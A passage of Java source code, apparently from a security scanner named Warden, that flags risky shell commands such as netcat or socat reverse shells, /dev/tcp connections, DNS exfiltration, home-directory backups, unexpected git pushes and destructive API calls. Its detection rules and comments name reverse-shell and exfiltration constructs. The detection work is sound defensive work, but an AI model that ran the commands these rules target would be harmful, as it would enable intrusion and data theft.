        out.signal(Report.Signal.NETWORK_SEND);
        out.add(COPY_OFF.finding(home ? HIGH : MEDIUM, home
                ? "backs the home directory (keys and credentials included) up to another machine (" + repo + ")"
                : "backs files up to another machine (" + repo + ")", c.text()));
    }

    /** {@code host:path}, {@code user@host:path}, {@code host::module/path}, {@code rsync://} / {@code scp://} URLs. */
    private static boolean remotePath(String s) {
        if (s.startsWith("rsync://") || s.startsWith("scp://") || s.startsWith("sftp://")) {
            return true;
        }
        int colon = s.indexOf(':');
        int slash = s.indexOf('/');
        return colon > 0 && (slash < 0 || colon < slash) && !s.startsWith("./");
    }

    /** The name curl -O and wget give a download: the URL's last path segment, or null. */
    private static @Nullable String lastSegment(String url) {
        int scheme = url.indexOf("://");
        String rest = scheme >= 0 ? url.substring(scheme + 3) : url;
        int q = rest.indexOf('?');
        if (q >= 0) {
            rest = rest.substring(0, q);
        }
        int slash = rest.lastIndexOf('/');
        return slash < 0 || slash == rest.length() - 1 ? null : rest.substring(slash + 1);
    }

    /**
     * What a POST to a path of a hosted service does when its last segments say so: start a
     * workflow or a deployment ({@code /dispatches}, {@code /deployments}), grant access
     * ({@code /keys}, {@code /collaborators}, {@code /members}, {@code /invitations}), run a command
     * in an app ({@code /dynos}, {@code /exec}). Null otherwise.
     */
    static @Nullable String actionByPath(String lowerUrl) {
        int q = lowerUrl.indexOf('?');
        String path = q < 0 ? lowerUrl : lowerUrl.substring(0, q);
        while (path.endsWith("/")) {
            path = path.substring(0, path.length() - 1);
        }
        String last = path.substring(path.lastIndexOf('/') + 1);
        return switch (last) {
            case "dispatches", "deployments", "deploys", "rollouts" -> "start a workflow or a deployment";
            case "keys", "deploy_keys", "collaborators", "members", "invitations", "memberships", "grants", "role_assignments",
                 "tokens", "access_tokens", "api_keys" -> "grant access or create a credential";
            case "dynos", "exec", "one-off-dynos", "run", "commands" -> "run a command in a hosted app";
            default -> null;
        };
    }

    /** SQL handed to an HTTP API in the query string ({@code ?q=DROP+DATABASE+x}, {@code ?query=}, {@code ?sql=}). */
    private static void querySql(String url, String evidence, Report out) {
        int q = url.indexOf('?');
        if (q < 0 || url.length() > 20_000) {
            return;
        }
        for (String kv : url.substring(q + 1).split("&")) {
            int eq = kv.indexOf('=');
            String k = eq < 0 ? "" : kv.substring(0, eq).toLowerCase(Locale.ROOT);
            if (k.equals("q") || k.equals("query") || k.equals("sql") || k.equals("stmt") || k.equals("statement")) {
                try {
                    dev.warden.analysis.sql.SqlScan.scan(java.net.URLDecoder.decode(kv.substring(eq + 1),
                            java.nio.charset.StandardCharsets.UTF_8), evidence, out);
                } catch (IllegalArgumentException e) {
                    // not URL-encoded text: nothing Warden can read as SQL
                }
            }
        }
    }

    /** Words that name a destructive action in an API path. */
    private static final Set<String> DESTRUCTIVE_ACTIONS = Set.of("delete", "destroy", "purge", "drop", "truncate",
            "wipe", "flush", "terminate", "remove", "erase", "revoke", "uninstall", "prune", "forget", "deprovision",
            "decommission", "kill", "shutdown", "reset", "rollback", "clear", "expunge", "nuke", "obliterate",
            "deactivate", "suspend", "disable", "refund", "refunds", "payout", "payouts", "maintenance", "downtime",
            "downtimes", "silence", "silences", "mute");

    /**
     * The destructive action an API path names in one of its segments, split on {@code -},
     * {@code _}, {@code .}, {@code :} and camel case ({@code _delete_by_query}, {@code deleteUser},
     * {@code projects/42:purge}, {@code ?action=delete}); null when none does. The host is not
     * read.
     */
    static @Nullable String destructiveAction(String url) {
        int scheme = url.indexOf("://");
        String rest = scheme >= 0 ? url.substring(scheme + 3) : url;
        int slash = rest.indexOf('/');
        if (slash < 0) {
            return null;
        }
        String path = rest.substring(slash);
        StringBuilder word = new StringBuilder();
        for (int i = 0; i <= path.length(); i++) {
            char ch = i < path.length() ? path.charAt(i) : '/';
            boolean separator = !Character.isLetterOrDigit(ch);
            boolean boundary = separator || Character.isUpperCase(ch) && !word.isEmpty();
            if (boundary) {
                String w = word.toString().toLowerCase(Locale.ROOT);
                if (DESTRUCTIVE_ACTIONS.contains(w)) {
                    return w;
                }
                word.setLength(0);
                if (separator) {
                    continue;
                }
            }
            word.append(ch);
        }
        return null;
    }

    static @Nullable String exfilHost(String lowerUrl) {
        for (String e : EXFIL_HOSTS) {
            if (lowerUrl.contains(e)) {
                return e;
            }
        }
        return null;
    }

    static boolean privateIp(String ip) {
        return ip.startsWith("10.") || ip.startsWith("192.168.") || ip.startsWith("127.") || ip.startsWith("169.254.")
                || ip.startsWith("172.") && secondOctetPrivate(ip);
    }

    private static boolean secondOctetPrivate(String ip) {
        try {
            int second = Integer.parseInt(ip.split("\\.")[1]);
            return second >= 16 && second <= 31;
        } catch (RuntimeException e) {
            return false;
        }
    }

    // ---- sockets ---------------------------------------------------------------------------

    private static void netcat(Invocation c, Report out) {
        if (c.flag("-e", "-c", "--exec", "--sh-exec", "--lua-exec")) {
            out.add(REVERSE_SHELL.finding(c.text()));
            return;
        }
        if (c.flag("-l", "--listen")) {
            out.add(LISTEN.finding(c.text()));
            return;
        }
        String h = firstHost(c);
        if (h == null) {
            return;
        }
        out.host(h);
        if (!Hosts.local(h) && !c.flag("-z")) {
            out.add(RAW_SOCKET.finding(c.text()));
            out.signal(Report.Signal.NETWORK_SEND);
        }
    }

    private static void socat(Invocation c, Report out) {
        boolean remote = false;
        for (String a : c.operands()) {
            String l = a.toLowerCase(Locale.ROOT);
            if (l.startsWith("exec:") || l.startsWith("system:") || l.contains(",exec:")) {
                out.add(REVERSE_SHELL.finding(c.text()));
                return;
            }
            if (l.startsWith("tcp-listen") || l.startsWith("tcp4-listen") || l.startsWith("tcp6-listen")
                    || l.startsWith("udp-listen") || l.startsWith("openssl-listen")) {
                out.add(LISTEN.finding(c.text()));
                return;
            }
            int colon = l.indexOf(':');
            if (colon > 0 && (l.startsWith("tcp") || l.startsWith("udp") || l.startsWith("openssl") || l.startsWith("socks"))) {
                String rest = a.substring(colon + 1);
                int c2 = rest.lastIndexOf(':');
                String host = c2 > 0 ? rest.substring(0, c2) : rest;
                out.host(host.toLowerCase(Locale.ROOT));
                remote |= !Hosts.local(host);
            }
        }
        if (remote) {
            out.add(RAW_SOCKET.finding(c.text()));
            out.signal(Report.Signal.NETWORK_SEND);
        }
    }

    /**
     * A debugger listening on every address: whoever reaches the port runs code in the process
     * ({@code node --inspect=0.0.0.0:9229}, {@code java -agentlib:jdwp=...,address=*:5005},
     * {@code python -m debugpy --listen 0.0.0.0:5678}). On localhost it is ordinary debugging.
     */
    private static void debugger(Invocation c, Report out) {
        List<String> args = c.args();
        for (int i = 0; i < args.size(); i++) {
            String a = args.get(i);
            String address = a.startsWith("--inspect") && a.indexOf('=') > 0 ? a.substring(a.indexOf('=') + 1)
                    : (a.startsWith("-agentlib:jdwp=") || a.startsWith("-Xrunjdwp:")) && a.contains("address=")
                            ? a.substring(a.indexOf("address=") + 8).split(",")[0]
                    : a.equals("--listen") && i + 1 < args.size() && args.contains("debugpy") ? args.get(i + 1) : null;
            if (address == null) {
                continue;
            }
            int colon = address.lastIndexOf(':');
            String host = colon < 0 ? "" : address.substring(0, colon);
            if (host.equals("0.0.0.0") || host.equals("*") || host.equals("[::]") || host.equals("::")) {
                out.add(TUNNEL.finding("opens a debugger, which runs any code in the process, to every address ("
                        + a + ")", c.text()));
                return;
            }
        }
    }

    private static final Set<String> REPOSITORY_VALUED = Set.of("-C", "-c", "--git-dir", "--work-tree", "--namespace",
            "-o", "--push-option", "--repo", "--receive-pack", "--exec", "-R", "--repository", "--cwd", "-r", "--rev", "-b",
            "--branch", "-e", "--ssh", "--remotecmd", "--config");

    /**
     * A repository's history sent to a URL given on the command line rather than a configured
     * remote ({@code git push https://x/y.git}, {@code hg push ssh://host/repo}), or every later
     * push redirected ({@code git remote set-url --push origin URL}). Local paths, {@code file://}
     * and localhost are not off the machine.
     */
    private static void repositorySent(Invocation c, Report out) {
        List<String> args = c.args();
        if (!args.contains("push") && !args.contains("send-email") && !args.contains("set-url")
                && !(args.contains("config") && String.join(" ", args).toLowerCase(Locale.ROOT).contains(".pushurl"))) {
            return; // this runs for every git command: most are none of these
        }
        List<String> ops = c.operands(REPOSITORY_VALUED);
        int push = ops.indexOf("push");
        String url = null;
        String what;
        if (!ops.isEmpty() && ops.get(0).equals("send-email") && !c.flag("--dry-run")) {
            // git send-email: patches mailed to whoever --to/--cc name
            String to = c.option("--to").orElse(c.option("--cc").orElse("the addresses the patches name"));
            out.add(COPY_OFF.finding("mails commits as patches to " + to, c.text()));
            out.signal(Report.Signal.NETWORK_SEND);
            return;
        }
        if (ops.size() > 2 && ops.get(0).equals("lfs") && ops.get(1).equals("push")) {
            url = ops.get(2);
            what = "pushes the repository's large files to ";
        } else if (push == 0 && ops.size() > 1 && !remoteAddedEarlier(c, ops.get(1)).isEmpty()) {
            url = remoteAddedEarlier(c, ops.get(1)); // git remote set-url origin URL && git push: to URL
            what = "pushes the repository's history to ";
        } else if (push == 0 && ops.size() > 1) {
            url = ops.get(1);
            what = "pushes the repository's history to ";
        } else if (push == 0 && !remoteAddedEarlier(c, "origin").isEmpty()) {
            url = remoteAddedEarlier(c, "origin");
            what = "pushes the repository's history to ";
        } else if (ops.size() > 3 && ops.get(0).equals("remote") && ops.get(1).equals("set-url") && c.flag("--push")) {
            url = ops.get(ops.size() - 1);
            what = "makes every later push of " + ops.get(2) + " go to ";
        } else if (ops.size() == 3 && ops.get(0).equals("config") && ops.get(1).toLowerCase(Locale.ROOT).startsWith("remote.")
                && ops.get(1).toLowerCase(Locale.ROOT).endsWith(".pushurl")) {
            url = ops.get(2); // git config remote.origin.pushurl URL: git remote set-url --push, spelled as a setting
            what = "makes every later push of " + ops.get(1).substring(7, ops.get(1).length() - 8) + " go to ";
        } else {
            return;
        }
        boolean remote = url.contains("://") || url.indexOf('@') > 0 && url.indexOf(':') > url.indexOf('@');
        String h = remote && !url.startsWith("file:") ? Hosts.hostOf(url.contains("://") ? url : "ssh://" + url.replace(":", "/"))
                : null;
        if (h != null && !Hosts.local(h)) {
            out.host(h);
            out.add(COPY_OFF.finding(what + url + ", not a remote the repository already has", c.text()));
            out.signal(Report.Signal.NETWORK_SEND);
        }
    }

    /**
     * The URL an earlier command of the call gave the remote NAME ({@code git remote add NAME URL},
     * {@code git remote set-url NAME URL}): a push to NAME then goes there. Empty when none did.
     */
    private static String remoteAddedEarlier(Invocation c, String name) {
        String url = "";
        for (dev.warden.call.Command e : c.earlier()) {
            List<String> a = e.args();
            int r = a.indexOf("remote");
            if (e.program().equals("git") && r >= 0 && r + 3 < a.size()
                    && (a.get(r + 1).equals("add") || a.get(r + 1).equals("set-url"))) {
                List<String> rest = a.subList(r + 2, a.size()).stream().filter(x -> !x.startsWith("-")).toList();
                if (rest.size() >= 2 && rest.get(0).equals(name)) {
                    url = rest.get(rest.size() - 1);
                }
            }
        }
        return url;
    }

    private static void ssh(Invocation c, Report out) {
        List<String> ops = c.operands(Set.of("-p", "-i", "-l", "-o", "-F", "-L", "-R", "-D", "-W", "-J", "-b", "-c",
                "-E", "-e", "-I", "-m", "-O", "-Q", "-S", "-w", "-B"));
        if (!ops.isEmpty()) {
            String target = ops.get(0);
            String h = Hosts.hostOf(target.contains("://") ? target : "ssh://" + target);
            if (h != null) {
                out.host(h);
                if (!Hosts.local(h)) {
                    out.signal(Report.Signal.NETWORK_SEND); // a channel off the machine: what is piped in leaves
                    String up = c.upstream();
                    if (up.startsWith("docker save") || up.startsWith("podman save") || up.contains(" | docker save")
                            || up.startsWith("tar c") || up.startsWith("zfs send") || up.startsWith("btrfs send")
                            || up.startsWith("git bundle") || up.startsWith("git archive") || up.startsWith("hg bundle")) {
                        // docker save IMAGE | ssh host docker load: a private image, an archive or a snapshot sent away
                        out.add(COPY_OFF.finding("sends what the pipeline packs (" + up.strip() + ") to " + h, c.text()));
                    }
                }
            }
        }
        if (c.flag("-R")) {
            out.add(TUNNEL.finding("opens a remote port forward, exposing a local port on another machine", c.text()));
        } else if (c.flag("-D")) {
            out.add(TUNNEL.finding(MEDIUM, "opens a SOCKS proxy through another machine", c.text()));
        }
    }

    private static void dns(Invocation c, Report out) {
        for (String o : c.operands(Set.of("-t", "-c", "-p", "-q", "-x", "-b", "-k", "-y", "-W", "-w", "-i", "-s", "-m", "-f"))) {
            if (o.startsWith("@")) {
                continue;
            }
            if (o.contains("$(") || o.contains("`")) {
                out.add(DNS_EXFIL.finding(c.text()));
                out.signal(Report.Signal.NETWORK_SEND);
                return;
            }
            String h = Hosts.hostOf(o);
            if (h != null) {
                out.host(h);
            } else if (!o.startsWith("-") && !Invocation.dynamic(o) && o.indexOf('.') < 0 && o.length() < 64 && !isNumber(o)) {
                out.host(o.toLowerCase(Locale.ROOT));
            }
        }
    }

    private static void server(Invocation c, Report out) {
        List<String> args = c.args();
        String prog = c.program();
        if (prog.equals("python")) {
            int m = args.indexOf("-m");
            if (m >= 0 && m + 1 < args.size()) {
                String mod = args.get(m + 1);
                if (mod.equals("http.server") || mod.equals("SimpleHTTPServer") || mod.equals("pyftpdlib")
                        || mod.equals("smtpd") || mod.equals("uploadserver")) {
                    String bind = c.option("-b", "--bind").orElse("");
                    if (!bind.startsWith("127.") && !bind.equals("localhost") && !bind.equals("::1")) {
                        out.add(LISTEN.finding(c.text()));
                    }
                }
            }
        } else if (prog.equals("php")) {
            String addr = c.option("-S").orElse(null);
            if (addr != null && !addr.startsWith("127.") && !addr.startsWith("localhost")) {
                out.add(LISTEN.finding(c.text()));
            }
        } else if (prog.equals("ruby")) {
            if (args.contains("-run") && args.contains("httpd") || args.contains("un") && args.contains("httpd")) {
                out.add(LISTEN.finding(c.text()));
            }
        } else if (prog.equals("busybox")) {
            if (!args.isEmpty() && (args.get(0).equals("httpd") || args.get(0).equals("nc") && args.contains("-l"))) {
                out.add(LISTEN.finding(c.text()));
            }
        }
    }

    /** /dev/tcp and /dev/udp redirections, on any command. */
    static void devTcp(Invocation c, Report out) {
        for (Command.Redirect r : c.command().redirects()) {
            String t = r.target();
            if (!t.startsWith("/dev/tcp/") && !t.startsWith("/dev/udp/")) {
                continue;
            }
            String rest = t.substring(9);
            int slash = rest.indexOf('/');
            String host = slash < 0 ? rest : rest.substring(0, slash);
            out.host(host.toLowerCase(Locale.ROOT));
            out.signal(Report.Signal.NETWORK_SEND);
            String prog = c.program();
            boolean shell = dev.warden.analysis.exec.ExecRules.isShell(prog);
            if (shell || prog.equals("exec") && r.op().contains("<>")) {
                out.add(REVERSE_SHELL.finding(shell ? REVERSE_SHELL.description()
                        : "opens a two-way network connection inside the shell (the start of a reverse shell)", c.text()));
            } else if (!Hosts.local(host)) {
                out.add(RAW_SOCKET.finding("sends data over a raw /dev/tcp connection to " + host, c.text()));
            }
            return;
        }
    }
}
